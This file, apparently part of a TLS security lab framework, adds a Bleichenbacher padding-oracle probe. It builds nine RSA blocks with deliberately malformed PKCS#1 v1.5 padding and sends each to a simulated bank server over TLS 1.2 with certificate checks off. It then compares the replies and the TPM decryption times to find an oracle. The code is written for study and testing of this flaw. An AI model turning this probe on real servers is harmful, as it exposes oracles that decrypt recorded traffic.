@@ -1,0 +1,167 @@
+"""`bleichenbacher`: a server's answer may be a word about the padding of what it could not use.
+
+Alice sends the bank one ClientKeyExchange after another whose EncryptedPreMasterSecret opens to something that is
+wrong in a way of its own (RFC 8017, 7.2.2 says what is right), and compares the answers octet for octet. One
+difference would be an oracle, and an oracle opens recordings, about a million questions each. She measures; the
+million she leaves to the reader. Time is measured too, in `answer_times`: the same answers, and not quite as soon.
+"""
+
+from __future__ import annotations
+
+import os
+from functools import partial
+from typing import TYPE_CHECKING
+
+from cryptography import x509
+from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
+
+from trustlab import tls
+from trustlab.attacks.attack import Attack
+from trustlab.attacks.middle import HTTPS, SUITES
+from trustlab.attacks.programs import teller_of
+from trustlab.passage import Application, TlsEndpoint, offer
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+    from trustlab.cloud import Guest
+    from trustlab.trace import Trace
+
+ATTACK = Attack(
+    name="bleichenbacher",
+    needs=("a connection to the bank, as anybody has",),
+    steps=(
+        "encrypts to the bank's key blocks that are wrong in one way each",
+        "finishes every handshake with keys that cannot be the right ones",
+        "compares what the bank says to each, octet for octet",
+    ),
+    breaks="confidentiality",
+    why="A server that says what was wrong with a ciphertext decrypts it, a bit at a time.",
+    source="Bleichenbacher (1998); RFC 5246 7.4.7.1",
+    stopped_by="random octets in place of a secret that is not one, and the same alert whatever was wrong",
+    tls="1.2",
+    prize="oracle",
+)
+PMS = 48
+V12 = b"\x03\x03"
+
+
+def _fill(size: int) -> bytes:
+    """Return padding: octets that are not zero."""
+    return bytes(1 + octet % 255 for octet in os.urandom(size))
+
+
+def _block(k: int, head: bytes, secret: bytes, *, separator: bytes = b"\0") -> bytes:
+    return head + _fill(k - len(head) - len(separator) - len(secret)) + separator + secret
+
+
+VARIANTS: dict[str, Callable[[int], bytes]] = {
+    "sound": lambda k: _block(k, b"\0\2", V12 + os.urandom(PMS - 2)),
+    "another version inside": lambda k: _block(k, b"\0\2", b"\3\1" + os.urandom(PMS - 2)),
+    "a secret too short": lambda k: _block(k, b"\0\2", V12 + os.urandom(PMS - 3)),
+    "a secret too long": lambda k: _block(k, b"\0\2", V12 + os.urandom(PMS - 1)),
+    "no secret at all": lambda k: _block(k, b"\0\2", b""),
+    "block type 1": lambda k: _block(k, b"\0\1", V12 + os.urandom(PMS - 2)),
+    "a first octet that is not zero": lambda k: _block(k, b"\1\2", V12 + os.urandom(PMS - 2)),
+    "no zero after the padding": lambda k: b"\0\2" + _fill(k - 2),
+    "a zero within the padding's first eight octets": lambda k: b"\0\2\0" + _fill(k - 3),
+}
+"""What is wrong with a block of k octets, and how to make one (RFC 8017, 7.2.2: 00 02 PS 00 M, PS at least 8)."""
+
+
+def start(guest: Guest) -> None:
+    """Ask the bank once for every variant."""
+    tell = teller_of(guest, ATTACK)
+    for name, make in VARIANTS.items():
+        guest.connect(guest.setting("victim"), HTTPS, partial(Questioner, guest, make))
+        tell(name, f"asks the bank to open a secret with this about it: {name}.")
+
+
+class Questioner(TlsEndpoint):
+    """A client whose EncryptedPreMasterSecret opens to a block of Alice's, and whose keys are made up."""
+
+    def __init__(self, guest: Guest, make: Callable[[int], bytes], connection: str) -> None:
+        self._make = make
+        engine = tls.Client(
+            tls.ClientConfig(
+                server_name=guest.setting("server_name"),
+                check_peer=False,
+                versions=(tls.Version.TLS12,),
+                cipher_suites=SUITES,
+                extended_master_secret=guest.design.extended_master_secret,
+                attestation=offer(guest.design, "client"),
+                intercept=True,
+            )
+        )
+        super().__init__(engine, Silent(), observer=tls.TraceObserver(guest.party, connection, role="client"))
+
+    def respond(self, request: tls.Request) -> None:
+        """Believe any evidence; put the block in the secret's place."""
+        match request:
+            case tls.EvidenceReceived():
+                self.connection.answer(request, None)
+            case tls.PreMasterSecretReady():
+                certificate = x509.load_der_x509_certificate(self.connection.peer_certificates[0])
+                key = certificate.public_key()
+                if not isinstance(key, RSAPublicKey):
+                    raise TypeError("this attack is on RSA key transport, and the bank's key is another")
+                epms = encrypted(key, self._make(key.key_size // 8))
+                self.connection.answer(request, tls.ChosenPreMasterSecret(os.urandom(PMS), epms))
+            case _:
+                super().respond(request)
+
+
+class Silent(Application):
+    """An application that will never be connected."""
+
+    finished = False
+
+    def connected(self) -> bytes:
+        """Say nothing."""
+        return b""
+
+    def received(self, data: bytes) -> bytes:  # noqa: ARG002 - it does not listen
+        """Say nothing."""
+        return b""
+
+    def closed(self, error: Exception | None) -> None:
+        """Learn that it is over; that was to be expected."""
+
+
+def encrypted(key: RSAPublicKey, block: bytes) -> bytes:
+    """Return a block raised to the public exponent, without any padding: k octets."""
+    numbers = key.public_numbers()
+    return pow(int.from_bytes(block, "big"), numbers.e, numbers.n).to_bytes(key.key_size // 8, "big")
+
+
+def answers(trace: Trace, adversary: str = "alice", server: str = "bank") -> dict[str, bytes]:
+    """Return what the server said to each variant after its last word of the handshake: records as on the wire.
+
+    Taken from the frames in the trace, and so from nobody's word.
+    """
+    streams: dict[str, bytes] = {}
+    for frame in trace.select("frame"):
+        if frame.data.get("from") == server and frame.data.get("to") == adversary and frame.data["payload_length"]:
+            payload = frame.raw[int(str(frame.data["payload_offset"])) :][: int(str(frame.data["payload_length"]))]
+            streams[frame.connection] = streams.get(frame.connection, b"") + payload
+    said = (_after_handshake(stream) for _, stream in sorted(streams.items(), key=lambda item: _number(item[0])))
+    return dict(zip(VARIANTS, said, strict=False))
+
+
+def _number(connection: str) -> int:
+    return int(connection.rpartition("-")[2])
+
+
+def _after_handshake(stream: bytes) -> bytes:
+    records, rest = tls.split_records(stream)
+    last = max((r.end for r in records if r.content_type == tls.ContentType.HANDSHAKE), default=0)
+    return stream[last : len(stream) - len(rest)]
+
+
+def answer_times(trace: Trace, server: str = "bank") -> dict[str, float]:
+    """Return how long the server's TPM worked on each variant, in ms, as it happened on this machine.
+
+    TPM2_RSA_Decrypt of a wrong block may answer sooner than that of a sound one: a difference the engine cannot hide.
+    """
+    took = [float(str(e.data["ms"])) for e in trace.select("tpm.response", party=server, name="TPM2_RSA_Decrypt")]
+    return dict(zip(VARIANTS, took, strict=False))
